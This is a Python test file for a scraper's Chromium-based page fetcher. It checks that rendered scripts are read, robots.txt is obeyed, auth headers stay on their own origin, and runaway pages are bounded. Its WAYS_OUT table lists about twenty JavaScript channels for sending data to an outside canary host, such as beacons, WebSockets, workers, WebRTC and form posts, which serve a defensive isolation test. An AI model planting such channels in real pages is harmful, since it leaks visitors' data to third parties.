"""Pages drawn by the real Chromium: what their scripts make is read, and nothing goes out but by our own fetcher."""

from __future__ import annotations

import asyncio
import shutil
import time
from collections.abc import Callable
from contextlib import AsyncExitStack

import pytest

from scraper.fetch.browser import BrowserFetcher, found
from scraper.fetch.message import Failed, Fetched, FetchRequest, FetchResult
from tests.fetch.conftest import Bench
from tests.hostile import PRIVATE, HostileServer, answer, redirect

pytest.importorskip("playwright", reason="the extra `browser` is not installed")
pytestmark = pytest.mark.skipif(shutil.which(found() or "") is None, reason="no Chromium on this machine")

Build = Callable[..., Bench]
SHELL = b'<!doctype html><title>News</title><div id="root"></div><script src="/app.js"></script>'
APP = b"""
fetch("/api/news", {headers: {"X-Key": "k"}}).then(r => r.json()).then(list => {
  document.getElementById("root").innerHTML = list.map(n => `<article><h2>${n}</h2></article>`).join("");
});"""
ROUTES = {
    "/news": answer(SHELL, Content_Type="text/html", ETag='"1"'),
    "/app.js": answer(APP, Content_Type="text/javascript"),
    "/api/news": answer(b'["Two bodies sign", "A third joins"]', Content_Type="application/json"),
}


def html(script: str) -> bytes:
    return answer(f"<p id=p>shell</p><script>{script}</script>".encode(), Content_Type="text/html")


async def drawn(bench: Build, url: str, seconds: float = 20, **more: object) -> FetchResult:
    async with BrowserFetcher(bench().fetcher, seconds=seconds) as fetcher:
        return await fetcher.fetch(FetchRequest(url=url, browser=True, **more))  # type: ignore[arg-type]


async def test_what_the_scripts_make_is_the_page(bench: Build) -> None:
    async with HostileServer(ROUTES) as site, BrowserFetcher(bench().fetcher) as fetcher:
        got = await fetcher.fetch(FetchRequest(url=site.url("/news"), etag='"1"', browser=True))
        again = await fetcher.fetch(FetchRequest(url=site.url("/news"), browser=True))
        plain = await fetcher.fetch(FetchRequest(url=site.url("/news")))
    assert isinstance(got, Fetched)
    assert b"<h2>A third joins</h2>" in got.body
    assert (got.final_url, got.etag, got.requests) == (site.url("/news"), "", 4)  # robots.txt is one of them
    assert site.targets.count("/app.js") == 1  # the second page of a site has its scripts already
    assert isinstance(again, Fetched)
    assert b"A third joins" in again.body
    assert isinstance(plain, Fetched)
    assert b"A third" not in plain.body


async def test_what_robots_txt_forbids_no_script_gets(bench: Build) -> None:
    closed = ROUTES | {"/robots.txt": answer(b"User-agent: *\nDisallow: /api/")}
    async with HostileServer(closed) as site:
        got = await drawn(bench, site.url("/news"))
    assert isinstance(got, Fetched)
    assert b"<h2>" not in got.body
    assert "/api/news" not in site.targets


WAYS_OUT = {
    "fetch": "fetch('{canary}/x')",
    "no-cors": "fetch('{canary}/x', {{mode: 'no-cors'}})",
    "post": "fetch('{canary}/x', {{method: 'POST', body: 'x'}})",
    "beacon": "navigator.sendBeacon('{canary}/x', 'x')",
    "picture": "new Image().src = '{canary}/x.png'",
    "style": "document.head.innerHTML += '<link rel=stylesheet href={canary}/x.css>'",
    "preconnect": "document.head.innerHTML += '<link rel=preconnect href={canary}><link rel=prefetch href={canary}/x>'",
    "frame": "document.body.innerHTML += '<iframe src={canary}/x></iframe>'",
    "web socket": "new WebSocket('{canary}/x'.replace('http', 'ws'))",
    "event source": "new EventSource('{canary}/x')",
    "worker": "new Worker(URL.createObjectURL(new Blob(['fetch(`{canary}/x`); importScripts(`{canary}/y`)'])))",
    "service worker": "navigator.serviceWorker && navigator.serviceWorker.register('/sw.js')",
    "popup": "window.open('{canary}/x')",
    "location": "setTimeout(() => location.href = '{canary}/x', 50)",
    "form": "document.body.innerHTML += '<form method=post action={canary}/x id=f></form>'; f.submit()",
    "refresh": "document.head.innerHTML += '<meta http-equiv=refresh content=\"0; url={canary}/x\">'",
    "a redirect": "fetch('/leave')",
    "a script that redirects": "let s = document.createElement('script'); s.src = '/leave?s'; document.body.append(s)",
    "web rtc": "new RTCPeerConnection({{iceServers: [{{urls: 'stun:{host}'}}]}}).createDataChannel('x')",
    "decimal notation": "fetch('{canary}/x'.replace('127.0.0.2', '2130706434'))",
}  # fmt: skip


LEAVING = ("popup", "location", "form", "refresh")  # one page cannot leave by two ways


async def test_no_way_out_reaches_the_canary(bench: Build) -> None:
    async with AsyncExitStack() as stack, HostileServer(host=PRIVATE) as canary:
        away = redirect(canary.url("/x"))
        words = {"canary": canary.url(""), "host": canary.url("").removeprefix("http://")}
        ways = {name: way.format(**words) for name, way in WAYS_OUT.items()}
        stay = "".join(f"try {{ {way} }} catch {{}}\n" for name, way in ways.items() if name not in LEAVING)
        routes = {f"/{name}": html(ways[name]) for name in LEAVING}
        async with HostileServer(routes | {"/all": html(stay), "/leave": away, "/leave?s": away}) as site:
            fetcher = await stack.enter_async_context(BrowserFetcher(bench().fetcher, seconds=10))
            for path in ("/all", *routes):
                await fetcher.fetch(FetchRequest(url=site.url(path), browser=True))
        assert canary.connections == 0
        assert {"/leave", "/leave?s"} <= set(site.targets)


async def test_headers_of_the_source_go_to_its_own_origin_only(bench: Build) -> None:
    async with HostileServer(host="127.0.0.1") as other:
        app = f"fetch('/mine'); fetch('{other.url('/theirs')}')"
        async with HostileServer({"/n": html(app)}) as site:
            await drawn(bench, site.url("/n"), headers=(("Authorization", "Bearer secret"),))
    sent = {asked.target: asked.headers.get("authorization") for asked in site.asked + other.asked}
    assert (sent["/n"], sent["/mine"], sent["/theirs"]) == ("Bearer secret", "Bearer secret", None)


async def test_no_cookie_outlives_its_page(bench: Build) -> None:
    app = "document.getElementById('p').textContent = document.cookie || 'none'; document.cookie = 'seen=1'"
    async with HostileServer({"/n": html(app)}) as site, BrowserFetcher(bench().fetcher) as fetcher:
        for _ in range(2):
            got = await fetcher.fetch(FetchRequest(url=site.url("/n"), browser=True))
            assert isinstance(got, Fetched)
            assert b"none" in got.body
    assert not [asked for asked in site.asked if "cookie" in asked.headers]


async def test_a_page_that_goes_elsewhere_by_script_is_told_with_its_way(bench: Build) -> None:
    routes = {"/n": html("location.replace('/there')"), "/there": answer(b"<p>arrived</p>", Content_Type="text/html")}
    async with HostileServer(routes) as site:
        got = await drawn(bench, site.url("/n"))
    assert isinstance(got, Fetched)
    assert (got.final_url, b"arrived" in got.body) == (site.url("/there"), True)
    assert [hop.url for hop in got.hops] == [site.url("/n")]


@pytest.mark.parametrize("script", ["while (true) {}", "setInterval(() => fetch('/' + Math.random()), 1)"])
async def test_scripts_without_an_end_are_bounded(bench: Build, script: str) -> None:
    begun = time.monotonic()
    async with HostileServer({"/n": html(script)}) as site:
        got = await drawn(bench, site.url("/n"), seconds=3)
        assert isinstance(got, Failed | Fetched)
        assert len(site.targets) <= 61
    assert time.monotonic() - begun < 30


async def test_a_page_of_any_size_is_bounded(bench: Build) -> None:
    grow = "document.body.textContent = 'x'.repeat(2e6)"
    async with HostileServer({"/n": html(grow)}) as site, BrowserFetcher(bench().fetcher, most=10**6) as fetcher:
        got = await fetcher.fetch(FetchRequest(url=site.url("/n"), browser=True))
    assert isinstance(got, Failed)
    assert got.kind == "too_large"


async def test_a_download_is_left_alone(bench: Build) -> None:
    file = answer(b"x" * 999, Content_Type="application/octet-stream", Content_Disposition="attachment; filename=x.exe")
    async with HostileServer({"/n": html("location.href = '/x.exe'"), "/x.exe": file}) as site:
        got = await drawn(bench, site.url("/n"), seconds=6)
    assert isinstance(got, Fetched | Failed)


async def test_without_a_chromium_it_is_said_what_is_missing(bench: Build) -> None:
    async with HostileServer(ROUTES) as site, BrowserFetcher(bench().fetcher, chromium="/nowhere/chromium") as fetcher:
        got = await asyncio.wait_for(fetcher.fetch(FetchRequest(url=site.url("/news"), browser=True)), 20)
    assert isinstance(got, Failed)
    assert got.kind == "browser"
